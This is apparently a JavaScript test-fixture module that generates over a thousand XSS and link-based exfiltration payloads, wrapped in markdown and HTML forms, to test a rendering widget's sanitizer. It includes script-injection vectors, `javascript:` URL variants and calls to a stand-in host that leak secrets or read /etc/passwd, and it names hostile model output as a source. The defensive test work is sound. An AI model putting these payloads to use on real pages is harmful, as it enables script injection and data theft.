// What a hostile document or model would like the widget to render; `evil` is the address it would like to reach.

const urls = (evil) => [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.test/x",
  "/\\evil.test/x",
  "/\t/evil.test/x",
  `${evil}?leak=secret`,
  "file:///etc/passwd",
  `blob:${evil}1`,
  `${evil}x.png#1`,
  "http://127.0.0.1:1/x",
  "data:image/svg+xml;base64,PHN2Zy8+",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "wss://evil.test/",
  "ftp://evil.test/",
  "mailto:x@evil.test?body=secret",
];

const links = (url) => [
  `[click](${url})`,
  `![image](${url})`,
  `[![both](${url})](${url})`,
  `<${url}>`,
  `[ref]\n\n[ref]: ${url}`,
  `![ref][1]\n\n[1]: ${url}`,
  `[1](${url})`,
  `[1]: ${url}`,
  `**[bold](${url})**`,
  `- [item](${url})`,
  url,
];

const html = (evil) => [
  "<body onload=alert(1)>",
  `<audio src=${evil}x autoplay>`,
  `<embed src=${evil}x>`,
  `<image href=${evil}x>`,
  `<svg><use href='${evil}x#y'/></svg>`,
  `<svg><foreignObject><img src=${evil}x></foreignObject></svg>`,
  `<template><img src=${evil}x></template>`,
  `<p style=background:url(${evil}x)>x</p>`,
  `<table background=${evil}x>`,
  `<script src=${evil}x></script>`,
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<marquee onstart=alert(1)>",
  `<a href=${evil} ping=${evil}p>x</a>`,
  `<input type=image src=${evil}x>`,
  `<picture><source srcset=${evil}x></picture>`,
  `<frameset><frame src=${evil}></frameset>`,
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<button form=f formaction=javascript:alert(1)>x</button>",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  `<style>@import url(${evil}x.css)</style>`,
  `<link rel=prefetch href=${evil}x>`,
  `<base href=${evil}>`,
  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<form action=https://evil.test><button>go</button></form>",
  "<object data=javascript:alert(1)>",
  `<img srcset='${evil}x 1x'>`,
  "<!--<img src=x onerror=alert(1)>-->",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
];

const places = (payload) => [
  payload,
  `**${payload}**`,
  `\`${payload}\``,
  `\`\`\`html\n${payload}\n\`\`\`\nafter`,
  `\`\`\`${payload}\ncode\n\`\`\``,
  `# ${payload}`,
  `1. ${payload}\n   - ${payload}`,
  `text *${payload}* [1] ${payload}`,
  `[1][${payload}]`,
  `> ${payload}`,
  `| a |\n|---|\n| ${payload} |`,
  `\\${payload}`,
  `~~~\n${payload}`,
  `***${payload}`,
];

/** Every payload, at least 1,000. */
export function payloads(evil) {
  const addresses = urls(evil);
  return [...addresses.flatMap(links), ...html(evil).flatMap(places), ...addresses.flatMap(places)];
}

/** The addresses that are neither http nor https: nothing may link to them. */
export function hostileUrls(evil) {
  return urls(evil).filter((url) => !/^https?:/.test(url));
}
